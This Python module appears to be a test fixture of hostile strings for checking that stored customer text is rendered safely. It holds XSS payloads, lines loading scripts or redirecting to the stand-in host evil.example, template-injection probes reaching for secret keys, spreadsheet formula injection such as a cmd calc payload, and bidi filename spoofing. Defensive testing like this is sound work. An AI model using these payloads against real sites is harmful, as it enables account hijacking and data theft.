"""What a customer may store as a text and nobody's browser may take for anything else."""

RUN = "window.hit=1"
SCRIPT = [
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</select><script>{RUN}</script>",
    f"</noscript><script>{RUN}</script>",
    f"<script\x20src=data:,{RUN}></script>",
    "<script src=//evil.example/x.js></script>",
    f"<img src=x onerror={RUN}>",
    f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror={RUN}>",
    f"<img/src=x/onerror={RUN}//",
    f"<image href=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x>",
    f'<svg><a xlink:href="javascript:{RUN}">x</a></svg>',
    f"<math><mi xlink:href='javascript:{RUN}'>x</mi></math>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f'" autofocus onfocus={RUN} x="',
    f"' autofocus onfocus={RUN} x='",
    f'" onmouseover={RUN} x="',
    "<iframe srcdoc='<script>parent.hit=1</script>'>",
    f"<iframe src=javascript:{RUN}>",
    f"<object data=javascript:{RUN}>",
    "<embed src=data:text/html,x>",
    f"<a href=javascript:{RUN}>x</a>",
    f"javascript:{RUN}",
    f"jAvAsCrIpT:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<div style=position:fixed;inset:0>over</div>",
    "<form action=//evil.example><button>x</button>",
    f"<form><button formaction=javascript:{RUN}>x",
    "<div hx-get=//evil.example hx-trigger=load>",
    f"<div hx-on:load={RUN}>",
    "<template><script>1</script></template>",
    f"<marquee onstart={RUN}>",
    f"<x onclick={RUN}>x",
    "<!--",
    "<![CDATA[",
    "<plaintext>",
    "&lt;script&gt;",
    "&#60;script&#62;",
    "&quot;&gt;",
    "\\u003cscript\\u003e",
    "%3Cscript%3E",
    "\uff1cscript\uff1e",
    f"';{RUN}//",
    f'";{RUN}//',
    f"`${{{RUN}}}`",
]
TEMPLATE = [
    *("{{ 7*7 }}", "{{7*'7'}}", "{% load static %}", "{% include 'base.html' %}", "{# gone #}", "{{ request.user }}"),
    *("{{ settings.SECRET_KEY }}", "{{ ''.__class__.__mro__ }}", "{% debug %}", "{{ key.digest }}", "{%", "}}", "{{"),
    *("${7*7}", "#{7*7}", "<%= 7*7 %>", "[[7*7]]", "%(name)s", "%s %d %n", "{0}", "{name!r}", "$(id)", "`id`", "%%"),
]
FORMULA = [
    *("=1+1", '=HYPERLINK("//evil.example","x")', "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "=\t1", "==1"),
    *("+cmd|x", "-2+3+cmd|x", "@import", "=IMPORTXML(1)", "\t=1", "\r=1", ",=1", ";=1", '"=1', "'=1", "\uff1d1+1"),
]
BIDI = [
    *("\u202eevil", "\u202dplain", "\u202aleft", "\u202bright", "\u2066a", "\u2067a", "\u2068a", "\u202c", "\u2069"),
    *("png.\u202egpj", "\u200ea\u200f", "\u061ca", "\u05d0\u05d1 a \u05d2", "\u0627\u0644 \u202e1\u202c"),
]
MARKS = [
    *(
        "a" + "\u0301" * 40,
        "a" + "\u0489" * 40,
        "\u0e33" * 40,
        "e\u20dd\u20e0",
        "\u200b\u200c\u200d",
        "\ufeffx",
        "\u00ad" * 20,
    ),
    *(
        "\ufffd",
        "\ufffe",
        "\U000e0041\U000e0042",
        "\U0001f468\u200d\U0001f469\u200d\U0001f467",
        "\ufdfd",
        "\u3164",
        "W" * 90,
    ),
]
STRINGS = [*SCRIPT, *TEMPLATE, *FORMULA, *BIDI, *MARKS]
LONG = ["a" + "\u0302" * 1_999, "x" * 2_000, "<b>" * 600]


def joined(limit: int) -> list[str]:
    """Return all of them in texts of at most so many characters, a bidi mark never before another string."""
    texts = [""]
    for one in STRINGS:
        if len(texts[-1]) + 1 + len(one) > limit:
            texts.append("")
        texts[-1] = f"{texts[-1]} {one}".strip(" ")
    return texts
